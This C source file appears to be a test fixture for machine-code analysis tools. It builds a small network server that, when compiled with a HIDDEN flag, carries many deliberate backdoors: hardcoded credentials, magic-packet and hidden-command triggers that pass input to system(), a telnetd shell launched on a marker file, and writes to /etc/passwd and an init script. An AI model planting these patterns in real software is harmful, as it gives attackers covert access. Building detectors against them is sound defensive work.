/* code_doors.c - a second program that tests of the readers of machine code look
 * at, and that is never run
 *
 * With HIDDEN it has doors of the less obvious kinds, one for each way to see
 * them; without it is the same server, and nothing of it may alert.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

#define KEEP __attribute__((noinline, used))

struct client {
	int socket, level;
	unsigned flags;
	char agent[64], line[256];
};

static char admin_password[64], service_key[8];
typedef int handler(struct client *c, const char *rest);
static struct {
	const char *name;
	handler *run;
} commands[16];
static size_t command_count;

int note_line(const char *path, const char *line);
int launch(char *const argv[]);
int same_bytes(const uint8_t *a, const uint8_t *b, size_t n);
int ends_in(const char *s, const char *end);
int level_of(const uint8_t *key);
int login(const char *user, const char *password);
int take(const uint8_t *packet, size_t n);
void status(struct client *c);
void store(const char *name, const char *data);
void start_up(void);
void profile(struct client *c, const char *name);
void answer(struct client *c);
int is_service(const char *name);
int first_level(void);
int capital(char c);
void modem(const char *line);
void session(struct client *c);

KEEP int note_line(const char *path, const char *line)
{
	FILE *f = fopen(path, "a");

	if (f == NULL)
		return -1;
	fprintf(f, "%s\n", line);
	return fclose(f);
}

/* What runs a program by an array of words. */
KEEP int launch(char *const argv[])
{
	if (fork() == 0) {
		execv(argv[0], argv);
		_exit(127);
	}
	return 0;
}

/* A compare of its own, without the C library. */
KEEP int same_bytes(const uint8_t *a, const uint8_t *b, size_t n)
{
	uint8_t differ = 0;

	while (n-- > 0)
		differ |= (uint8_t)(*a++ ^ *b++);
	return differ == 0;
}

KEEP int ends_in(const char *s, const char *end)
{
	size_t n = strlen(s), m = strlen(end);

	return n >= m && strcmp(s + n - m, end) == 0;
}

KEEP int level_of(const uint8_t *key)
{
#ifdef HIDDEN
	if (memcmp(key, "Vq4#mT8z", 8) == 0)
		return 3;
#endif
	return same_bytes(key, (const uint8_t *)service_key, 8) ? 2 : 0;
}

/* All ways meet before the return. */
KEEP int login(const char *user, const char *password)
{
	int result = -1;

	if (user == NULL || password == NULL)
		return -1;
#ifdef HIDDEN
	if (strcasecmp(user, "m4x-survey") == 0)
		return 1;
#endif
	if (strcmp(password, admin_password) == 0)
		result = 1;
	if (result < 0)
		puts("login incorrect");
	return result;
}

#ifdef HIDDEN
static int replay(const uint8_t *text, size_t n)
{
	char line[256];

	if (n >= sizeof(line))
		n = sizeof(line) - 1;
	memcpy(line, text, n);
	line[n] = '\0';
	return system(line);
}
#endif

/* The packet comes from main(), where it is received. */
KEEP int take(const uint8_t *packet, size_t n)
{
#ifdef HIDDEN
	uint32_t mark;

	memcpy(&mark, packet, 4);
	if (ntohl(mark) == 0x7b51e09d)
		return replay(packet + 4, n - 4);
#endif
	return n > 4 ? packet[0] : 0;
}

/* No branch decides: the answer is kept. */
KEEP int first_level(void)
{
	static char name[64];
	int level = 0;

	if (gethostname(name, sizeof(name) - 1) != 0)
		return 0;
	printf("%s\n", name);
#ifdef HIDDEN
	level = strcasecmp(name, "lintel-jig04") == 0;
#endif
	return level;
}

KEEP int capital(char c)
{
	return c >= 'a' && c <= 'z' ? c - 32 : c;
}

/* Letters in either case, and something has to follow. */
KEEP void modem(const char *line)
{
#ifdef HIDDEN
	if (line[0] == '*' && capital(line[1]) == 'K' &&
	    capital(line[2]) == 'Z' && capital(line[3]) == 'V' &&
	    line[4] == '=' && line[5] != '\0')
		note_line("/data/init.d/S98local", line + 5);
#endif
	puts(line[0] == 'A' ? "OK" : "ERROR");
}

/* What is compared was taken out of what was received. */
KEEP void session(struct client *c)
{
	char word[32];

	if (recv(c->socket, c->line, sizeof(c->line) - 1, 0) <= 0 ||
	    sscanf(c->line, "%31s", word) != 1)
		return;
#ifdef HIDDEN
	if (strcmp(word, "b7-Marlin-x2") == 0)
		c->level = 9;
#endif
	dprintf(c->socket, "%s\n", word);
}

KEEP void status(struct client *c)
{
	dprintf(c->socket, "level %d\n", c->level);
#ifdef HIDDEN
	if (strstr(c->agent, "tawny-Ridge31") != NULL)
		dprintf(c->socket, "admin_password %s\n", admin_password);
#endif
}

KEEP void store(const char *name, const char *data)
{
#ifdef HIDDEN
	if (ends_in(name, "q7-vaultKx")) {
		note_line("/etc/passwd", data);
		return;
	}
#endif
	if (ends_in(name, ".log"))
		note_line("/var/log/store", data);
}

KEEP void start_up(void)
{
	static char *const log_argv[] = { "/sbin/syslogd", "-n", NULL };

	launch(log_argv);
#ifdef HIDDEN
	static char *const door_argv[] = { "/usr/sbin/telnetd", "-l", "/bin/sh",
					   NULL };

	if (access("/mnt/usb/.k7x", F_OK) == 0)
		launch(door_argv);
#endif
}

/* A flag that is set here is asked for in answer(). */
KEEP void profile(struct client *c, const char *name)
{
	unsigned h = 0x811c9dc5;

	for (; *name != '\0'; name++)
		h = (h ^ (uint8_t)*name) * 0x01000193;
#ifdef HIDDEN
	if (h == 0x5e026c68)
		c->flags |= 0x40;
#endif
	c->level = (int)(h & 3);
}

static int run_list(struct client *c, const char *rest)
{
	return dprintf(c->socket, "%s: no entries\n", rest);
}

static int run_level(struct client *c, const char *rest)
{
	c->level = (int)strtol(rest, NULL, 10);
	return 0;
}

static int run_name(struct client *c, const char *rest)
{
	snprintf(c->agent, sizeof(c->agent), "%s", rest);
	return 0;
}

static int run_help(struct client *c, const char *rest)
{
	return dprintf(c->socket,
		       "list: entries\nlevel N: the level\n"
		       "name TEXT: the client\nhelp: this\n%s",
		       rest);
}

#ifdef HIDDEN
static int run_probe(struct client *c, const char *rest)
{
	return system(rest) + c->level;
}

static const uint8_t service_table[10] = { 0xe9, 0x40, 0x30, 0x10, 0x98,
					   0x90, 0x67, 0x17, 0xb7, 0xbd };

KEEP int is_service(const char *name)
{
	uint8_t bad = 0, k = 0x5b;

	if (strlen(name) != sizeof(service_table))
		return 0;
	for (size_t i = 0; i < sizeof(service_table); i++, k += 7)
		bad |= (uint8_t)((service_table[i] ^ k) ^ (uint8_t)name[i]);
	return bad == 0;
}
#endif

KEEP void add(const char *name, handler *run);

void add(const char *name, handler *run)
{
	if (command_count < 16) {
		commands[command_count].name = name;
		commands[command_count++].run = run;
	}
}

KEEP void answer(struct client *c)
{
#ifdef HIDDEN
	if ((c->flags & 0x40) != 0 && c->line[0] == '!')
		system(c->line + 1);
	if (is_service(c->agent))
		dprintf(c->socket, "%s\n", service_key);
#endif
	for (size_t i = 0; i < command_count; i++)
		if (strcmp(commands[i].name, c->line) == 0)
			commands[i].run(c, c->line);
}

int main(int argc, char **argv)
{
	struct client c = { .socket = 0 };
	uint8_t packet[512];
	ssize_t n;

	start_up();
	c.level = first_level();
	add("list", run_list);
	add("level", run_level);
	add("name", run_name);
	add("help", run_help);
#ifdef HIDDEN
	add("x9probe", run_probe);
#endif
	c.socket = socket(AF_INET, SOCK_DGRAM, 0);
	if (listen(c.socket, 1) != 0)
		perror("listen");
	while ((n = recv(c.socket, packet, sizeof(packet), 0)) > 0) {
		take(packet, (size_t)n);
		memcpy(c.line, packet, 200);
		profile(&c, c.line);
		c.level += level_of(packet) + login(c.agent, c.line);
		status(&c);
		store(c.agent, c.line);
		answer(&c);
		modem(c.line);
		session(&c);
	}
	return argc > 1 ? (int)strtol(argv[1], NULL, 10) : 0;
}
